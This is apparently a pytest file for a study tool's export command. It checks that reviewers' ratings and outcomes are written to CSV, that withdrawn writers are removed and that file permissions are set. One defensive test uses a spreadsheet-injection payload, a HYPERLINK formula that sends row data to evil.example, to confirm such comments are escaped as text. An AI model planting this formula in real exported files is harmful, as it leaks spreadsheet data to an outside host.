"""`study export` of a study whose qualification round was reviewed writes the reviewers' ratings
and each submission's outcome beside metadata.csv: the numbers a paper reports agreement and
the qualification from, which the workspace otherwise only shows on its pages."""

from __future__ import annotations

import csv
import stat

from click.testing import CliRunner

from study.cli import main
from study.review import decisions, submissions
from study.review import ratings as rating_store
from study.store import writing
from tests.review.conftest import add_reviewer
from tests.review.sessions import finished_session

SCORES = (1, 2, 3, 4, 5)


def read(path) -> list[dict]:
    with path.open(newline="", encoding="utf-8") as handle:
        return list(csv.DictReader(handle))


def export(folder, out) -> str:
    result = CliRunner().invoke(main, ["export", str(folder), "--out", str(out)], catch_exceptions=False)
    assert result.exit_code == 0, result.output
    return result.output


def test_export_writes_every_rating_and_outcome(review_folder, review_study, engine, tmp_path):
    agreed = finished_session(engine, worker_id="A1AGREED", round_name="qualification")
    split = finished_session(engine, worker_id="A1SPLIT", round_name="qualification")
    waiting = finished_session(engine, worker_id="A1WAITING", round_name="qualification")
    ana, ben = add_reviewer(engine, "ana"), add_reviewer(engine, "ben")
    rita = add_reviewer(engine, "rita", role="researcher")
    with writing(engine) as connection:
        submissions.collect(connection, review_study)
        named = {s["session_id"]: s["submission_id"] for s in submissions.all_submissions(connection)}
        for reviewer, score in ((ana, 4), (ben, 5)):
            rating_store.rate(connection, named[agreed], reviewer, score, "", scores=SCORES)
        rating_store.rate(connection, named[split], ana, 5, "clear ending", scores=SCORES)
        rating_store.rate(connection, named[split], ben, 2, "", scores=SCORES)
        # ana changes her mind after seeing ben's rating: the export says it was saved twice.
        rating_store.rate(connection, named[split], ana, 3, "on reflection", scores=SCORES)
        decisions.adjudicate(connection, named[split], rita, 2, "no ending", scores=SCORES)
        rating_store.rate(connection, named[waiting], ana, 4, "", scores=SCORES)

    out = tmp_path / "out"
    said = export(review_folder, out)

    assert "Exported 5 reviewers' ratings of 3 submissions" in said
    ratings = read(out / "review_ratings.csv")
    assert len(ratings) == 5
    changed = next(r for r in ratings if r["submission"] == named[split] and r["reviewer"] == "ana")
    assert (changed["score"], changed["comment"], changed["version"]) == ("3", "on reflection", "2")
    assert changed["session_id"] == split and changed["round"] == "qualification"
    outcomes = {row["session_id"]: row for row in read(out / "review_outcomes.csv")}
    assert (outcomes[agreed]["status"], outcomes[agreed]["score"], outcomes[agreed]["scores"]) == (
        "passed", "4", "4 5",
    )  # fmt: skip  (the lower middle of an even count)
    assert outcomes[split]["status"] == "failed"
    assert (outcomes[split]["adjudicated_score"], outcomes[split]["adjudicated_by"]) == ("2", "rita")
    assert outcomes[split]["adjudication_note"] == "no ending"
    assert outcomes[waiting]["status"] == "awaiting ratings"
    # The session ids lead to metadata.csv's worker ids: as private as the rest of the export.
    for name in ("review_ratings.csv", "review_outcomes.csv"):
        assert stat.S_IMODE((out / name).stat().st_mode) == 0o600


def test_a_study_never_reviewed_exports_no_review_files(review_folder, engine, tmp_path):
    finished_session(engine, worker_id="A1WRITER", round_name="qualification")
    out = tmp_path / "out"
    said = export(review_folder, out)

    assert "reviewers' ratings" not in said
    assert not (out / "review_ratings.csv").exists()
    assert not (out / "review_outcomes.csv").exists()


def test_a_withdrawn_writers_reviews_leave_the_export_even_an_earlier_ones(review_folder, review_study, engine, tmp_path):
    stays = finished_session(engine, worker_id="A1STAYS", round_name="qualification")
    leaves = finished_session(engine, worker_id="A1LEAVES", round_name="qualification")
    ana = add_reviewer(engine, "ana")
    with writing(engine) as connection:
        submissions.collect(connection, review_study)
        named = {s["session_id"]: s["submission_id"] for s in submissions.all_submissions(connection)}
        for session_id in (stays, leaves):
            rating_store.rate(connection, named[session_id], ana, 4, "", scores=SCORES)
    out = tmp_path / "out"
    assert "Exported 2 reviewers' ratings of 2 submissions" in export(review_folder, out)

    withdrawn = CliRunner().invoke(main, ["withdraw", "A1LEAVES", "--study", str(review_folder)])
    assert withdrawn.exit_code == 0, withdrawn.output
    said = export(review_folder, out)

    assert "Exported 1 reviewers' ratings of 1 submissions" in said
    assert [r["session_id"] for r in read(out / "review_ratings.csv")] == [stays]
    assert [r["session_id"] for r in read(out / "review_outcomes.csv")] == [stays]


def test_a_comment_a_spreadsheet_would_run_is_written_as_text(review_folder, review_study, engine, tmp_path):
    # The team opens these files in a spreadsheet: a comment "=HYPERLINK(...)" would be a link
    # there that sends the row's cells elsewhere. Scores stay numbers.
    session = finished_session(engine, worker_id="A1FORMULA", round_name="qualification")
    ana, rita = add_reviewer(engine, "ana"), add_reviewer(engine, "rita", role="researcher")
    formula = '=HYPERLINK("https://evil.example/?"&A2,"see")'
    with writing(engine) as connection:
        submissions.collect(connection, review_study)
        (listed,) = submissions.all_submissions(connection)
        rating_store.rate(connection, listed["submission_id"], ana, 1, formula, scores=SCORES)
        decisions.adjudicate(connection, listed["submission_id"], rita, 2, "@SUM(1+1)", scores=SCORES)

    export(review_folder, tmp_path / "out")

    (rating,) = read(tmp_path / "out" / "review_ratings.csv")
    assert (rating["comment"], rating["score"]) == ("'" + formula, "1")
    (outcome,) = read(tmp_path / "out" / "review_outcomes.csv")
    assert (outcome["adjudication_note"], outcome["adjudicated_score"]) == ("'@SUM(1+1)", "2")
    assert outcome["session_id"] == session
